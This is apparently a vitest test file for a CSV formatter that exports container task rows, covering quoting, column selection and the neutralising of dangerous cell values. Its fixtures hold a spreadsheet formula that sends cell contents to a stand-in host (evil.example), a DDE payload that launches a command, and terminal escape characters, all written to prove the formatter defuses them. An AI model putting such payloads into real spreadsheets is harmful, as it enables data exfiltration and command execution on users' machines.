import {describe, expect, it} from 'vitest';
import {formatCsv} from '../../source/output/format-csv.js';
import type {ContainerRow} from '../../source/model/task-row.js';
import {makeTaskRow} from '../helpers/task-row.js';

const HEADER = [
	'taskArn', 'taskId', 'clusterArn', 'service', 'group', 'startedBy', 'taskDefinition', 'family', 'revision',
	'lastStatus', 'desiredStatus', 'healthStatus', 'availabilityZone', 'eniId', 'privateIpv4', 'ipv6', 'subnetId',
	'macAddress', 'privateDnsName', 'attachmentStatus', 'launchType', 'capacityProviderName', 'platformVersion',
	'containerInstanceArn', 'cpu', 'memory', 'createdAt', 'startedAt', 'stoppingAt', 'stoppedAt', 'stopCode',
	'stoppedReason', 'hostPorts', 'containers', 'targets',
].join(',');

const container = (name: string): ContainerRow => ({
	name, image: null, runtimeId: null, lastStatus: null, healthStatus: null, exitCode: null, reason: null, privateIpv4: null, ipv6: null, ports: [],
});

/** Splits RFC 4180 text into records of cells (quoted cells may hold commas and doubled quotes). */
function parseCsv(text: string): string[][] {
	expect(text.endsWith('\r\n')).toBe(true);
	return text.slice(0, -2).split('\r\n').map((line) => {
		const cells: string[] = [];
		// Every cell after a comma: a leading comma makes the first one like the others.
		for (const match of `,${line}`.matchAll(/,("(?:[^"]|"")*"|[^,]*)/gu)) {
			const raw = match[1] ?? '';
			cells.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
		}
		return cells;
	});
}

const column = (name: string) => HEADER.split(',').indexOf(name);

describe('formatCsv', () => {
	it('starts with the header row, even with no tasks', () => {
		expect(formatCsv([])).toBe(`${HEADER}\r\n`);
	});

	it('writes one CRLF-terminated record per task, absent values as empty cells', () => {
		const text = formatCsv([
			makeTaskRow({taskId: 'aaa', privateIpv4: '10.0.1.17', revision: 12, createdAt: '2026-01-15T11:58:00.000Z'}),
			makeTaskRow({taskId: 'bbb'}),
		]);
		expect(text.split('\r\n')).toHaveLength(4);
		expect(text.replaceAll('\r\n', '')).not.toContain('\n');
		const [header, first, second] = parseCsv(text);
		expect(header).toHaveLength(35);
		expect(first).toHaveLength(35);
		expect(first?.[column('taskId')]).toBe('aaa');
		expect(first?.[column('privateIpv4')]).toBe('10.0.1.17');
		expect(first?.[column('revision')]).toBe('12');
		expect(first?.[column('createdAt')]).toBe('2026-01-15T11:58:00.000Z');
		expect(second?.[column('privateIpv4')]).toBe('');
		expect(second?.[column('hostPorts')]).toBe('');
		expect(second?.[column('containers')]).toBe('');
		expect(second?.[column('targets')]).toBe('');
	});

	it('quotes cells with commas or quotes and doubles the quotes', () => {
		const reason = 'Essential container exited: "web", code 137';
		const text = formatCsv([makeTaskRow({taskId: 'aaa', stoppedReason: reason})]);
		expect(text).toContain(`,"Essential container exited: ""web"", code 137",`);
		expect(parseCsv(text)[1]?.[column('stoppedReason')]).toBe(reason);
	});

	it('defuses text a spreadsheet would run as a formula', () => {
		const [, row] = parseCsv(formatCsv([makeTaskRow({stoppedReason: '=HYPERLINK("http://x")', service: '@sum', revision: 3})]));
		expect(row?.[column('stoppedReason')]).toBe('\'=HYPERLINK("http://x")');
		expect(row?.[column('service')]).toBe('\'@sum');
		expect(row?.[column('revision')]).toBe('3');
	});

	it('replaces control characters, so a hostile value can neither break a record nor reach a terminal', () => {
		const text = formatCsv([makeTaskRow({taskId: 'aaa', stoppedReason: 'line1\r\nline2\u001B[31m\u009B\u202Eend'})]);
		// eslint-disable-next-line no-control-regex -- looking for raw control characters is the point
		expect(text.replaceAll('\r\n', '')).not.toMatch(/[\u0000-\u001F\u007F-\u009F\u202E]/u);
		const records = parseCsv(text);
		expect(records).toHaveLength(2);
		expect(records[1]?.[column('stoppedReason')]).toBe('line1\uFFFD\uFFFDline2\uFFFD[31m\uFFFD\uFFFDend');
	});

	it('lists host ports as containerPort->hostPort/protocol and container names, space-separated', () => {
		const text = formatCsv([makeTaskRow({
			taskId: 'aaa',
			hostPorts: [
				{containerName: 'web', bindIp: '0.0.0.0', containerPort: 80, hostPort: 32768, protocol: 'tcp'},
				{containerName: 'dns', bindIp: '0.0.0.0', containerPort: 53, hostPort: 32769, protocol: 'udp'},
			],
			containers: [container('web'), container('dns')],
		})]);
		const [, record] = parseCsv(text);
		expect(record?.[column('hostPorts')]).toBe('80->32768/tcp 53->32769/udp');
		expect(record?.[column('containers')]).toBe('web dns');
	});
});

describe('formatCsv with --columns', () => {
	const nowMs = Date.UTC(2026, 0, 15, 12, 0, 0);

	it('has the chosen columns, in their order, headed by their --columns names', () => {
		const text = formatCsv([
			makeTaskRow({taskId: 'aaa', privateIpv4: '10.0.1.17', eniId: 'eni-1', createdAt: '2026-01-15T11:58:00.000Z'}),
			makeTaskRow({
				taskId: 'bbb', launchType: 'EC2',
				hostPorts: [{containerName: 'web', bindIp: '0.0.0.0', containerPort: 80, hostPort: 32768, protocol: 'tcp'}],
			}),
		], {fields: ['ip', 'task', 'eni', 'host-ports', 'age', 'created'], nowMs});
		expect(parseCsv(text)).toEqual([
			['private-ip', 'task', 'eni', 'host-ports', 'age', 'created'],
			['10.0.1.17', 'aaa', 'eni-1', '', '2m', '2026-01-15T11:58:00.000Z'],
			// A bridge-mode task has no ENI: the grid's ENI column shows its ports, CSV leaves it empty.
			['', 'bbb', '', '80->32768/tcp', '', ''],
		]);
	});

	it('quotes, defuses and cleans hostile values in every chosen column', () => {
		const hostile = makeTaskRow({
			taskId: 'aaa',
			service: '=HYPERLINK("http://evil.example/?"&A1,"click")',
			taskDefinition: '+cmd|\' /C calc\'!A0',
			stoppedReason: 'line1\r\nline2, "quoted"\u001B[31m\u009B\u202Eend',
			availabilityZone: '@SUM(1+1)',
			subnetId: '-2+3',
		});
		const text = formatCsv([hostile], {fields: ['task', 'service', 'rev', 'stopped-reason', 'az', 'subnet'], nowMs});
		// eslint-disable-next-line no-control-regex -- looking for raw control characters is the point
		expect(text.replaceAll('\r\n', '')).not.toMatch(/[\u0000-\u001F\u007F-\u009F\u202E]/u);
		expect(text.split('\r\n')).toHaveLength(3);
		expect(parseCsv(text)[1]).toEqual([
			'aaa',
			'\'=HYPERLINK("http://evil.example/?"&A1,"click")',
			'\'+cmd|\' /C calc\'!A0',
			'line1\uFFFD\uFFFDline2, "quoted"\uFFFD[31m\uFFFD\uFFFDend',
			'\'@SUM(1+1)',
			'\'-2+3',
		]);
		expect(text).toContain(',"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",');
	});
});

